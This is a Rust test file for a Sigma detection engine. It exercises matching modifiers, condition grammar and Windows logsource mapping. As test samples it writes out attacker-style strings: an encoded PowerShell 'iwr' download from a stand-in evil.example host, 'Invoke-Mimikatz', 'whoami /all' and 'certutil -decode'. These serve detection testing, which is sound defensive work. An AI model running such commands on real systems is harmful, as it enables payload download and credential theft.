//! Matching semantics from the Sigma specification: values, wildcards, every modifier, the
//! condition grammar, keywords, null/exists, logsource mapping, filters and the prefilter.

use sigma::{Event, FieldValue, ParseOptions, RuleSet};

/// Compiles one rule with `detection` (indented YAML body) under `logsource` and tests `event`.
fn matches_ls(logsource: &str, detection: &str, event: &Event<'_>) -> bool {
    let text =
        format!("title: t\nid: 00000000-0000-0000-0000-000000000001\nlogsource: {logsource}\ndetection:\n{detection}");
    let mut set = RuleSet::new();
    assert_eq!(set.add_text(&text, "t.yml"), 1, "rule rejected: {:?}", set.rejected());
    let c = set.compile();
    assert!(c.skipped().is_empty(), "{:?}", c.skipped());
    c.matches(event).next().is_some()
}

/// Same, for a rule that applies to every Windows event.
fn m(detection: &str, event: &Event<'_>) -> bool {
    matches_ls("{product: windows}", detection, event)
}

fn ev<'a>(fields: &[(&'a str, &'a str)]) -> Event<'a> {
    fields
        .iter()
        .fold(Event::new().with_channel("Security").with_event_id(1), |e, (k, v)| {
            e.with_str(k, v)
        })
}

fn sel(body: &str) -> String {
    format!("  selection:\n{body}  condition: selection\n")
}

#[test]
fn plain_values_are_case_insensitive_whole_value_matches() {
    let d = sel("    Image: 'C:\\Windows\\System32\\whoami.exe'\n");
    assert!(m(&d, &ev(&[("Image", r"c:\windows\system32\WHOAMI.exe")])));
    assert!(!m(&d, &ev(&[("Image", r"C:\Windows\System32\whoami.exe.bak")])));
    assert!(!m(&d, &ev(&[("Other", r"C:\Windows\System32\whoami.exe")])));
    // field names are matched case-insensitively as a fallback
    assert!(m(&d, &ev(&[("image", r"C:\Windows\System32\whoami.exe")])));
}

#[test]
fn wildcards_and_escapes() {
    let d = sel("    F: 'prog?.exe'\n");
    assert!(m(&d, &ev(&[("F", "progA.exe")])));
    assert!(!m(&d, &ev(&[("F", "progAB.exe")])));
    let d = sel("    F: 'antivirus_V*.exe'\n");
    assert!(m(&d, &ev(&[("F", "antivirus_V21.2.1.exe")])));
    // escaped wildcard is literal
    let d = sel("    F: 'a\\*b'\n");
    assert!(m(&d, &ev(&[("F", "a*b")])));
    assert!(!m(&d, &ev(&[("F", "axxb")])));
    // escaped backslash followed by a wildcard
    let d = sel("    F: 'dir\\\\*'\n");
    assert!(m(&d, &ev(&[("F", "dir\\anything")])));
    // single and double backslash before a letter are the same
    let d = sel("    F: 'C:\\\\Windows\\System32'\n");
    assert!(m(&d, &ev(&[("F", "C:\\Windows\\System32")])));
}

#[test]
fn lists_are_or_maps_are_and() {
    let d = sel("    A: [x, y]\n    B: z\n");
    assert!(m(&d, &ev(&[("A", "y"), ("B", "z")])));
    assert!(!m(&d, &ev(&[("A", "y"), ("B", "q")])));
    assert!(!m(&d, &ev(&[("A", "w"), ("B", "z")])));
    // list of maps: OR
    let d = "  selection:\n    - Image|endswith: '\\example.exe'\n    - Description|contains: 'Test executable'\n  condition: selection\n";
    assert!(m(d, &ev(&[("Description", "a Test Executable here")])));
    assert!(m(d, &ev(&[("Image", "C:\\example.exe")])));
    assert!(!m(d, &ev(&[("Image", "C:\\other.exe")])));
}

#[test]
fn contains_startswith_endswith() {
    let e = ev(&[("CommandLine", "powershell.exe -NoProfile -EncodedCommand abc")]);
    assert!(m(&sel("    CommandLine|contains: '-encodedcommand'\n"), &e));
    assert!(m(&sel("    CommandLine|startswith: 'POWERSHELL'\n"), &e));
    assert!(m(&sel("    CommandLine|endswith: ' abc'\n"), &e));
    assert!(!m(&sel("    CommandLine|startswith: 'abc'\n"), &e));
    assert!(!m(&sel("    CommandLine|endswith: 'powershell'\n"), &e));
    assert!(m(&sel("    CommandLine|contains: ['nope', 'noprofile']\n"), &e));
}

#[test]
fn all_turns_list_or_into_and() {
    let d = sel("    CommandLine|contains|all: ['-a', '-b']\n");
    assert!(m(&d, &ev(&[("CommandLine", "x -b -a")])));
    assert!(!m(&d, &ev(&[("CommandLine", "x -a")])));
}

#[test]
fn regex_is_case_sensitive_unless_i() {
    let e = ev(&[("CommandLine", "Line1\nInvoke-Expression")]);
    assert!(m(&sel("    CommandLine|re: 'Invoke-\\w+'\n"), &e));
    assert!(!m(&sel("    CommandLine|re: 'invoke-\\w+'\n"), &e));
    assert!(m(&sel("    CommandLine|re|i: 'invoke-\\w+'\n"), &e));
    // m: ^ and $ at line boundaries
    assert!(!m(&sel("    CommandLine|re: '^Invoke'\n"), &e));
    assert!(m(&sel("    CommandLine|re|m: '^Invoke'\n"), &e));
    // s: dot matches newline
    assert!(!m(&sel("    CommandLine|re: 'Line1.Invoke'\n"), &e));
    assert!(m(&sel("    CommandLine|re|s: 'Line1.Invoke'\n"), &e));
    // regex searches anywhere in the value
    assert!(m(&sel("    CommandLine|re: 'Expr'\n"), &e));
}

#[test]
fn cidr_ipv4_and_ipv6() {
    let d = sel("    DestinationIp|cidr: ['10.0.0.0/8', '192.168.0.0/16', 'fe80::/10']\n");
    assert!(m(&d, &ev(&[("DestinationIp", "10.20.30.40")])));
    assert!(m(&d, &ev(&[("DestinationIp", "192.168.1.1")])));
    assert!(m(&d, &ev(&[("DestinationIp", "fe80:0:0:0:1234::1")])));
    assert!(!m(&d, &ev(&[("DestinationIp", "8.8.8.8")])));
    assert!(!m(&d, &ev(&[("DestinationIp", "not an ip")])));
}

fn b64(s: &[u8]) -> String {
    // independent reference encoder for the tests
    const T: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for c in s.chunks(3) {
        let n =
            (u32::from(c[0]) << 16) | (u32::from(*c.get(1).unwrap_or(&0)) << 8) | u32::from(*c.get(2).unwrap_or(&0));
        for i in 0..4 {
            out.push(if i <= c.len() {
                char::from(T[(n >> (18 - 6 * i) & 63) as usize])
            } else {
                '='
            });
        }
    }
    out
}

#[test]
fn base64_and_base64offset() {
    let encoded = b64(b"whoami /all");
    assert!(m(
        &sel("    Payload|base64: 'whoami /all'\n"),
        &ev(&[("Payload", &encoded)])
    ));
    let d = sel("    CommandLine|base64offset|contains: 'http://evil'\n");
    for prefix in ["", "a", "ab", "abc", "abcd"] {
        let enc = b64(format!("{prefix}iwr http://evil.example/x").as_bytes());
        let cmd = format!("powershell -e {enc}");
        assert!(m(&d, &ev(&[("CommandLine", &cmd)])), "prefix {prefix:?}: {enc}");
    }
    let other = format!("powershell -e {}", b64(b"iwr http://good.example/x"));
    assert!(!m(&d, &ev(&[("CommandLine", &other)])));
}

#[test]
fn utf16_encodings_with_base64offset() {
    let wide: Vec<u8> = "Invoke-Mimikatz".encode_utf16().flat_map(u16::to_le_bytes).collect();
    for prefix in 0..3usize {
        let mut payload: Vec<u8> =
            "xyz".encode_utf16().flat_map(u16::to_le_bytes).collect::<Vec<_>>()[..prefix * 2].to_vec();
        payload.extend_from_slice(&wide);
        let cmd = format!("powershell -enc {}", b64(&payload));
        for mods in ["utf16le", "wide"] {
            let d = sel(&format!(
                "    CommandLine|{mods}|base64offset|contains: 'Invoke-Mimikatz'\n"
            ));
            assert!(m(&d, &ev(&[("CommandLine", &cmd)])), "{mods} offset {prefix}");
        }
    }
    let be: Vec<u8> = "cmd".encode_utf16().flat_map(u16::to_be_bytes).collect();
    assert!(m(&sel("    P|utf16be|base64: 'cmd'\n"), &ev(&[("P", &b64(&be))])));
    let mut bom = vec![0xFF, 0xFE];
    bom.extend("cmd".encode_utf16().flat_map(u16::to_le_bytes));
    assert!(m(&sel("    P|utf16|base64: 'cmd'\n"), &ev(&[("P", &b64(&bom))])));
}

#[test]
fn windash_matches_every_dash_variant() {
    let d = sel("    CommandLine|windash|contains: ' -decode '\n");
    for dash in ["-", "/", "\u{2013}", "\u{2014}", "\u{2015}"] {
        let cmd = format!("certutil {dash}decode a b");
        assert!(m(&d, &ev(&[("CommandLine", &cmd)])), "{dash}");
    }
    assert!(!m(&d, &ev(&[("CommandLine", "certutil +decode a b")])));
}

#[test]
fn exists_checks_presence_only() {
    let d = sel("    PasswordLastSet|exists: true\n");
    assert!(m(&d, &ev(&[("PasswordLastSet", "")])));
    assert!(m(&d, &Event::new().with_field("PasswordLastSet", FieldValue::Null)));
    assert!(!m(&d, &ev(&[("Other", "x")])));
    let d = sel("    PasswordLastSet|exists: false\n");
    assert!(m(&d, &ev(&[("Other", "x")])));
    assert!(!m(&d, &ev(&[("PasswordLastSet", "x")])));
}

#[test]
fn null_means_absent_null_or_empty_and_empty_string_is_empty() {
    let d = "  selection:\n    EventID: 4738\n  filter:\n    PasswordLastSet: null\n  condition: selection and not filter\n";
    let base = || Event::new().with_field("EventID", FieldValue::Int(4738));
    assert!(m(d, &base().with_str("PasswordLastSet", "2024-01-01")));
    assert!(!m(d, &base()));
    assert!(!m(d, &base().with_str("PasswordLastSet", "")));
    assert!(!m(d, &base().with_field("PasswordLastSet", FieldValue::Null)));
    let d = sel("    F: ''\n");
    assert!(m(&d, &ev(&[("F", "")])));
    assert!(!m(&d, &ev(&[("F", "x")])));
    assert!(!m(&d, &ev(&[("G", "")])));
}

#[test]
fn numbers_compare_as_text_and_numerically() {
    let d = sel("    EventID: [4624, 4625]\n");
    assert!(m(&d, &Event::new().with_field("EventID", FieldValue::Int(4625))));
    assert!(m(&d, &ev(&[("EventID", "4624")])));
    assert!(!m(&d, &ev(&[("EventID", "46245")])));
    // event metadata is visible as EventID when the event has no such field
    assert!(m(&d, &Event::new().with_event_id(4624)));
    let d = sel("    DestinationPort|gte: 1024\n");
    assert!(m(
        &d,
        &Event::new().with_field("DestinationPort", FieldValue::Int(8080))
    ));
    assert!(m(&d, &ev(&[("DestinationPort", "1024")])));
    assert!(!m(&d, &ev(&[("DestinationPort", "80")])));
    assert!(!m(&d, &ev(&[("DestinationPort", "http")])));
    assert!(m(&sel("    N|gt: 5\n"), &ev(&[("N", "0x10")])));
    assert!(!m(&sel("    N|gt: 5\n"), &ev(&[("N", "5")])));
    assert!(m(
        &sel("    N|lt: 5\n"),
        &Event::new().with_field("N", FieldValue::Float(4.5))
    ));
    assert!(m(&sel("    N|lte: 5\n"), &ev(&[("N", "5")])));
    assert!(!m(&sel("    N|lt: 5\n"), &ev(&[("N", "5")])));
}

#[test]
fn fieldref_compares_two_fields() {
    let d = "  selection:\n    Image|endswith: '\\x.exe'\n  filter_same_user:\n    User|fieldref: ParentUser\n  condition: selection and not filter_same_user\n";
    assert!(!m(
        d,
        &ev(&[
            ("Image", "c:\\x.exe"),
            ("User", "HOST\\Bob"),
            ("ParentUser", "host\\bob")
        ])
    ));
    assert!(m(
        d,
        &ev(&[
            ("Image", "c:\\x.exe"),
            ("User", "HOST\\Bob"),
            ("ParentUser", "HOST\\alice")
        ])
    ));
    assert!(m(d, &ev(&[("Image", "c:\\x.exe"), ("User", "HOST\\Bob")])));
    let d = sel("    A|fieldref|cased: B\n");
    assert!(m(&d, &ev(&[("A", "Xy"), ("B", "Xy")])));
    assert!(!m(&d, &ev(&[("A", "Xy"), ("B", "xy")])));
}

#[test]
fn cased_and_neq() {
    let d = sel("    CommandLine|cased|contains: 'Invoke'\n");
    assert!(m(&d, &ev(&[("CommandLine", "x Invoke y")])));
    assert!(!m(&d, &ev(&[("CommandLine", "x invoke y")])));
    let d = sel("    Image|endswith: '.exe'\n    User|neq: 'SYSTEM'\n");
    assert!(m(&d, &ev(&[("Image", "a.exe"), ("User", "bob")])));
    assert!(!m(&d, &ev(&[("Image", "a.exe"), ("User", "system")])));
    let d = sel("    Image|endswith: '.exe'\n    LogonType|neq: [2, 10]\n");
    assert!(m(&d, &ev(&[("Image", "a.exe"), ("LogonType", "3")])));
    assert!(!m(&d, &ev(&[("Image", "a.exe"), ("LogonType", "10")])));
}

#[test]
fn expand_uses_configured_placeholders() {
    let text = "title: t\nlogsource: {product: windows}\ndetection:\n  selection:\n    User|expand: '%Administrators%'\n  condition: selection\n";
    let mut set = RuleSet::new();
    assert_eq!(set.add_text(text, "t.yml"), 0);
    assert_eq!(set.rejected()[0].kind.reason(), "unsupported: placeholder");
    let mut opts = ParseOptions::default();
    opts.placeholders
        .insert("Administrators".into(), vec!["adm_*".into(), "root".into()]);
    let mut set = RuleSet::with_options(opts);
    assert_eq!(set.add_text(text, "t.yml"), 1);
    let c = set.compile();
    assert_eq!(c.matches(&ev(&[("User", "ADM_bob")])).count(), 1);
    assert_eq!(c.matches(&ev(&[("User", "root")])).count(), 1);
    assert_eq!(c.matches(&ev(&[("User", "bob")])).count(), 0);
}

#[test]
fn time_modifiers_extract_date_parts() {
    let e = ev(&[("UtcTime", "2025-12-11 23:17:19.636")]);
    assert!(m(&sel("    UtcTime|hour|gte: 22\n"), &e));
    assert!(m(&sel("    UtcTime|month: 12\n"), &e));
    assert!(m(&sel("    UtcTime|day: 11\n"), &e));
    assert!(m(&sel("    UtcTime|year: 2025\n"), &e));
    assert!(m(&sel("    UtcTime|minute|lt: 20\n"), &e));
    assert!(m(&sel("    UtcTime|week: 50\n"), &e));
    assert!(!m(&sel("    UtcTime|hour|lt: 6\n"), &e));
    assert!(!m(&sel("    UtcTime|hour: 1\n"), &ev(&[("UtcTime", "garbage")])));
}

#[test]
fn keywords_search_every_field() {
    let d = "  keywords:\n    - 'event::clear'\n    - 'event::drop'\n  condition: keywords\n";
    assert!(m(d, &ev(&[("A", "x"), ("Message", "mimikatz # EVENT::Clear done")])));
    assert!(!m(d, &ev(&[("Message", "event:clear")])));
    let d = "  keywords_cmdlet:\n    '|all':\n      - 'OabVirtualDirectory'\n      - ' -ExternalUrl '\n  condition: keywords_cmdlet\n";
    assert!(m(
        d,
        &ev(&[("A", "Set-OabVirtualDirectory"), ("B", "x -ExternalUrl y")])
    ));
    assert!(!m(d, &ev(&[("A", "Set-OabVirtualDirectory")])));
    // a single keyword string
    let d = "  keywords: 'evil'\n  condition: keywords\n";
    assert!(m(d, &ev(&[("A", "so EVIL")])));
    // numbers in the event are searched as text
    let d = "  keywords: [4711]\n  condition: keywords\n";
    assert!(m(d, &Event::new().with_field("Pid", FieldValue::Int(47110))));
}

#[test]
fn repeated_fields_match_any_occurrence() {
    let d = sel("    Data|contains: 'Executed command'\n");
    let e = Event::new()
        .with_str("Data", "first")
        .with_str("Data", "Executed command of length 5");
    assert!(m(&d, &e));
    let d = sel("    Data: 'nothing'\n");
    assert!(!m(&d, &e));
}

#[test]
fn condition_forms() {
    let e = ev(&[("A", "1"), ("B", "2"), ("C", "3")]);
    let defs = "  sel_a: {A: 1}\n  sel_b: {B: 2}\n  sel_x: {X: 9}\n  filter_c: {C: 3}\n  _hidden: {H: 0}\n";
    let cases = [
        ("sel_a and sel_b", true),
        ("sel_a and sel_x", false),
        ("sel_a or sel_x", true),
        ("not sel_x", true),
        ("not sel_a", false),
        ("sel_x or sel_a and sel_b", true),
        ("(sel_x or sel_a) and sel_b", true),
        ("(sel_x or sel_a) and not sel_b", false),
        ("sel_a and not (sel_x or filter_c)", false),
        ("1 of sel_*", true),
        ("any of sel_*", true),
        ("all of sel_*", false),
        ("all of sel_a*", true),
        ("1 of sel_* and not 1 of filter_*", false),
        ("all of sel_a* and not all of sel_*", true),
        ("1 of them", true),
        ("all of them", false),
        ("2 of sel_*", true),
        ("3 of sel_*", false),
        ("not 1 of sel_x*", true),
        ("sel_a AND NOT sel_x", true),
    ];
    for (cond, want) in cases {
        let d = format!("{defs}  condition: {cond}\n");
        assert_eq!(m(&d, &e), want, "{cond}");
    }
    // `them` skips identifiers starting with `_`
    let d = "  sel: {A: 1}\n  _never: {Z: 1}\n  condition: all of them\n";
    assert!(m(d, &e));
    // a list of conditions is OR
    let d = format!("{defs}  condition: [sel_x, sel_b]\n");
    assert!(m(&d, &e));
}

#[test]
fn process_creation_maps_sysmon_and_security_4688() {
    let ls = "{category: process_creation, product: windows}";
    let d =
        sel("    Image|endswith: '\\whoami.exe'\n    ParentImage|endswith: '\\cmd.exe'\n    User|contains: 'bob'\n");
    let sysmon = Event::new()
        .with_channel("Microsoft-Windows-Sysmon/Operational")
        .with_event_id(1)
        .with_str("Image", "C:\\Windows\\System32\\whoami.exe")
        .with_str("ParentImage", "C:\\Windows\\System32\\cmd.exe")
        .with_str("User", "CORP\\bob");
    assert!(matches_ls(ls, &d, &sysmon));
    let security = Event::new()
        .with_channel("Security")
        .with_event_id(4688)
        .with_str("NewProcessName", "C:\\Windows\\System32\\whoami.exe")
        .with_str("ParentProcessName", "C:\\Windows\\System32\\cmd.exe")
        .with_str("SubjectDomainName", "CORP")
        .with_str("SubjectUserName", "bob");
    assert!(matches_ls(ls, &d, &security));
    // Sysmon names are not looked up in 4688 events, and other ids / channels are ignored
    let wrong_names = Event::new()
        .with_channel("Security")
        .with_event_id(4688)
        .with_str("Image", "C:\\Windows\\System32\\whoami.exe")
        .with_str("ParentImage", "C:\\Windows\\System32\\cmd.exe")
        .with_str("User", "CORP\\bob");
    assert!(!matches_ls(ls, &d, &wrong_names));
    let mut other_id = sysmon.clone();
    other_id.event_id = Some(3);
    assert!(!matches_ls(ls, &d, &other_id));
    let mut other_channel = sysmon.clone();
    other_channel.channel = Some("Application".into());
    assert!(!matches_ls(ls, &d, &other_channel));
    // Defender export rows: table name as channel, Defender column names
    let defender = Event::new()
        .with_channel("DeviceProcessEvents")
        .with_str("FolderPath", "C:\\Windows\\System32\\whoami.exe")
        .with_str("InitiatingProcessFolderPath", "C:\\Windows\\System32\\cmd.exe")
        .with_str("AccountDomain", "corp")
        .with_str("AccountName", "bob");
    assert!(matches_ls(ls, &d, &defender));
}

#[test]
fn security_4688_integrity_level_from_the_mandatory_label() {
    let ls = "{category: process_creation, product: windows}";
    // The SigmaHQ form: names and label SIDs in one list.
    let both = sel(
        "    Image|endswith: '\\wsreset.exe'\n    IntegrityLevel:\n      - 'High'\n      - 'System'\n      \
         - 'S-1-16-16384'\n      - 'S-1-16-12288'\n",
    );
    let names = sel("    Image|endswith: '\\wsreset.exe'\n    IntegrityLevel: ['High', 'System']\n");
    let sids = sel("    Image|endswith: '\\wsreset.exe'\n    IntegrityLevel: 'S-1-16-12288'\n");
    let proc_4688 = |label: &'static str| {
        Event::new()
            .with_channel("Security")
            .with_event_id(4688)
            .with_str("NewProcessName", "C:\\Windows\\System32\\WSReset.exe")
            .with_str("MandatoryLabel", label)
    };
    // The event has no IntegrityLevel field: it matches only through MandatoryLabel.
    let high = proc_4688("S-1-16-12288");
    assert_eq!(high.field("IntegrityLevel"), None);
    assert!(matches_ls(ls, &both, &high));
    assert!(matches_ls(ls, &names, &high));
    assert!(matches_ls(ls, &sids, &high));
    assert!(matches_ls(ls, &both, &proc_4688("s-1-16-16384")));
    assert!(!matches_ls(ls, &both, &proc_4688("S-1-16-8192")));
    assert!(!matches_ls(ls, &sids, &proc_4688("S-1-16-16384")));
    // Every level, by name and by SID; Medium Plus under both spellings.
    for (sid, name) in [
        ("S-1-16-0", "Untrusted"),
        ("S-1-16-4096", "Low"),
        ("S-1-16-8192", "Medium"),
        ("S-1-16-8448", "Medium Plus"),
        ("S-1-16-8448", "MediumPlus"),
        ("S-1-16-12288", "High"),
        ("S-1-16-16384", "System"),
        ("S-1-16-20480", "Protected Process"),
    ] {
        let d =
            format!("  s:\n    IntegrityLevel: '{name}'\n  t:\n    IntegrityLevel: '{sid}'\n  condition: s and t\n");
        assert!(matches_ls(ls, &d, &proc_4688(sid)), "{sid} {name}");
    }
    let medium = sel("    IntegrityLevel: 'Medium'\n");
    assert!(!matches_ls(ls, &medium, &proc_4688("S-1-16-8448")));
    // An unknown label is still its SID; no label at all is an absent field.
    let odd = sel("    IntegrityLevel: 'S-1-16-28672'\n");
    assert!(matches_ls(ls, &odd, &proc_4688("S-1-16-28672")));
    let absent = sel("    IntegrityLevel: null\n");
    assert!(matches_ls(
        ls,
        &absent,
        &Event::new().with_channel("Security").with_event_id(4688)
    ));
    assert!(!matches_ls(ls, &absent, &high));
    // `neq`: differs from every value the label gives.
    let not_high = sel("    IntegrityLevel|neq: 'High'\n");
    assert!(!matches_ls(ls, &not_high, &high));
    assert!(matches_ls(ls, &not_high, &proc_4688("S-1-16-8192")));
    // Sysmon keeps its own field.
    let sysmon = Event::new()
        .with_channel("Microsoft-Windows-Sysmon/Operational")
        .with_event_id(1)
        .with_str("Image", "C:\\Windows\\System32\\WSReset.exe")
        .with_str("IntegrityLevel", "High");
    assert!(matches_ls(ls, &both, &sysmon));
}

#[test]
fn service_and_table_conditions() {
    let d = sel("    EventID: 7045\n    ServiceName|contains: 'mesh'\n");
    let e = Event::new()
        .with_channel("System")
        .with_event_id(7045)
        .with_str("ServiceName", "Mesh Agent");
    assert!(matches_ls("{product: windows, service: system}", &d, &e));
    assert!(!matches_ls("{product: windows, service: security}", &d, &e));
    // file_event rows from DeviceFileEvents must have a creation ActionType
    let d = sel("    TargetFilename|endswith: '\\user.conf'\n");
    let row = |action: &'static str| {
        Event::new()
            .with_channel("DeviceFileEvents")
            .with_str("ActionType", action)
            .with_str("FolderPath", "C:\\AnyDesk\\user.conf")
    };
    assert!(matches_ls(
        "{category: file_event, product: windows}",
        &d,
        &row("FileCreated")
    ));
    assert!(!matches_ls(
        "{category: file_event, product: windows}",
        &d,
        &row("FileDeleted")
    ));
    assert!(matches_ls(
        "{category: file_delete, product: windows}",
        &d,
        &row("FileDeleted")
    ));
}

#[test]
fn unmapped_logsources_are_reported_not_evaluated() {
    let mut set = RuleSet::new();
    set.add_text(
        "title: w\nlogsource: {category: webserver}\ndetection: {s: {cs-uri-stem|contains: x}, condition: s}\n",
        "w.yml",
    );
    let c = set.compile();
    assert_eq!(c.rules().len(), 0);
    assert_eq!(c.skipped()[0].kind.reason(), "unmapped logsource category:webserver");
}

#[test]
fn filters_suppress_matches_of_listed_rules() {
    let rule = "title: rar\nid: 6f3e2987-db24-4c78-a860-b4f4095a7095\nlogsource: {category: process_creation, product: windows}\ndetection:\n  selection: {Image|endswith: '\\rar.exe'}\n  condition: selection\n";
    let other = "title: other\nid: 11111111-0000-0000-0000-000000000000\nlogsource: {category: process_creation, product: windows}\ndetection:\n  selection: {Image|endswith: '\\rar.exe'}\n  condition: selection\n";
    let filter = "title: admins\nlogsource: {category: process_creation, product: windows}\nfilter:\n  rules: [6f3e2987-db24-4c78-a860-b4f4095a7095]\n  selection:\n    User|startswith: 'adm_'\n  condition: selection\n";
    let mut set = RuleSet::new();
    set.add_text(rule, "r.yml");
    set.add_text(other, "o.yml");
    set.add_text(filter, "f.yml");
    assert_eq!(set.filters().len(), 1);
    let c = set.compile();
    let sysmon = |user: &'static str| {
        Event::new()
            .with_channel("Microsoft-Windows-Sysmon/Operational")
            .with_event_id(1)
            .with_str("Image", "C:\\rar.exe")
            .with_str("User", user)
    };
    let titles = |e: &Event<'_>| {
        c.matches(e)
            .filter_map(|r| c.rule(r).map(|r| r.title.clone()))
            .collect::<Vec<_>>()
    };
    assert_eq!(titles(&sysmon("bob")), ["rar", "other"]);
    assert_eq!(titles(&sysmon("adm_bob")), ["other"]);
    // a filter whose logsource differs does not apply
    let mut set = RuleSet::new();
    set.add_text(rule, "r.yml");
    set.add_text(&filter.replace("process_creation", "file_event"), "f.yml");
    let c = set.compile();
    assert_eq!(c.matches(&sysmon("adm_bob")).count(), 1);
}

#[test]
fn prefilter_skips_rules_without_their_literals() {
    let mut set = RuleSet::new();
    for i in 0..50 {
        set.add_text(
            &format!("title: r{i}\nlogsource: {{category: process_creation, product: windows}}\ndetection:\n  s: {{CommandLine|contains: 'needle{i}x'}}\n  condition: s\n"),
            format!("r{i}.yml"),
        );
    }
    set.add_text(
        "title: negated\nlogsource: {category: process_creation, product: windows}\ndetection:\n  s: {CommandLine|contains: 'zzz'}\n  condition: not s\n",
        "neg.yml",
    );
    let c = set.compile();
    let mut sc = c.scanner();
    let mut out = Vec::new();
    let e = Event::new()
        .with_channel("Microsoft-Windows-Sysmon/Operational")
        .with_event_id(1)
        .with_str("CommandLine", "a needle7x b");
    sc.scan(&e, &mut out);
    let titles: Vec<_> = out
        .iter()
        .filter_map(|r| c.rule(*r).map(|r| r.title.as_str()))
        .collect();
    assert_eq!(titles, ["r7", "negated"]);
    let st = sc.stats();
    assert_eq!(st.candidates, 51);
    assert_eq!(
        st.evaluated, 2,
        "only the rule with a matching needle and the negated rule are evaluated"
    );
    // events of other channels never reach the bucket
    let e = Event::new()
        .with_channel("Application")
        .with_event_id(1)
        .with_str("CommandLine", "needle7x");
    sc.scan(&e, &mut out);
    assert!(out.is_empty());
}

#[test]
fn rules_from_evtx_json() {
    let json: serde_json::Value = serde_json::from_str(
        r##"{"Event": {"System": {"Provider": {"#attributes": {"Name": "Service Control Manager"}},
            "EventID": {"#attributes": {"Qualifiers": 16384}, "#text": 7045}, "Channel": "System", "Computer": "pc"},
            "EventData": {"ServiceName": "PDQDeploy", "ImagePath": "C:\\x\\PDQDeployService.exe"}}}"##,
    )
    .unwrap_or_default();
    let e = Event::from_evtx_json(&json).unwrap_or_default();
    let d = "  selection_root:\n    Provider_Name: 'Service Control Manager'\n    EventID: 7045\n  selection_service:\n    - ImagePath|contains: 'PDQDeployService.exe'\n    - ServiceName: ['PDQDeploy', 'PDQ Deploy']\n  condition: all of selection_*\n";
    assert!(matches_ls("{product: windows, service: system}", d, &e));
}

#[test]
fn compiled_sets_can_be_shared_across_threads() {
    fn assert_send_sync<T: Send + Sync>() {}
    fn assert_send<T: Send>() {}
    assert_send_sync::<sigma::CompiledRuleSet>();
    assert_send::<sigma::Scanner<'static>>();
    assert_send::<sigma::Correlator<'static, u64>>();
}
